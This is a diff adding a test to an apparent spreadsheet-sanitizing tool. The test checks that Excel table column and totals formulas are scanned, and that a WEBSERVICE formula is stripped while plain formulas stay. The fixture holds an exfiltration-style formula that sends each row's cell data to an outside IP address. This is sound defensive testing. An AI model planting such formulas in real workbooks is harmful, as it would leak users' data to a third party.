@@ -599,6 +599,41 @@ def test_chart_and_control_references_to_another_workbook_become_values(tmp_path
     assert "<f>'集計表'!$B$2:$B$4</f>" in _read(tmp_path / "po.xlsx", "xl/charts/chart1.xml")
 
 
+def test_table_column_and_totals_formulas_are_judged_like_cells(tmp_path, default_policy):
+    """A table's calculatedColumnFormula is what Excel writes into every row a clerk adds, its
+    totalsRowFormula the totals cell's: a fetching function there was delivered clean (the cells' own
+    formulas were already judged). It goes; a plain one stays."""
+    import openpyxl
+    from openpyxl.worksheet.table import Table
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["地区", "人口", "照会"])
+    ws.append(["北部", 120, 1])
+    ws.append(["南部", 80, 2])
+    ws.add_table(Table(displayName="人口表", ref="A1:C3"))
+    wb.save(tmp_path / "t.xlsx")
+    fetch = "WEBSERVICE(&quot;http://203.0.113.9/?q=&quot;&amp;人口表[[#This Row],[人口]])"
+    src = patch(tmp_path / "t.xlsx", tmp_path / "tf.xlsx", edit={"xl/tables/table1.xml": lambda x: x.replace(
+        '<tableColumn id="2" name="人口"/>', '<tableColumn id="2" name="人口" totalsRowFunction="custom">'
+        '<calculatedColumnFormula>人口表[[#This Row],[照会]]*2</calculatedColumnFormula>'
+        '<totalsRowFormula>SUBTOTAL(109,人口表[人口])</totalsRowFormula></tableColumn>').replace(
+        '<tableColumn id="3" name="照会"/>', '<tableColumn id="3" name="照会" totalsRowFunction="custom">'
+        f'<calculatedColumnFormula>{fetch}</calculatedColumnFormula><totalsRowFormula>{fetch}</totalsRowFormula>'
+        '</tableColumn>')})
+    assert "WEBSERVICE" in _read(src, "xl/tables/table1.xml")
+    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
+    found = [t for t in r.threats if t.id == "ooxml.dangerous_function"]
+    assert [(t.location, t.detail.endswith("(x2)")) for t in found] == [("xl/tables/table1.xml", True)], r.threats
+    table = _read(tmp_path / "o.xlsx", "xl/tables/table1.xml")
+    assert "WEBSERVICE" not in table and "203.0.113.9" not in table
+    assert "人口表[[#This Row],[照会]]*2" in table and "SUBTOTAL(109,人口表[人口])" in table
+    assert table.count('totalsRowFunction="custom"') == 1  # the column whose totals formula stayed
+    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
+    assert any(t[0] == "ooxml.dangerous_function" for t in _prescan_same_as_full(src, tmp_path))
+    assert process(src, "tf.xlsx", tmp_path / "p", default_policy).verdict == "sanitized"
+
+
 def test_form_control_links_to_another_workbook_are_cut():
     """Form controls as Excel writes them (a ctrlProp part, and the VML of older files): a cell link or
     list range in another workbook goes with a finding; one in this workbook stays."""
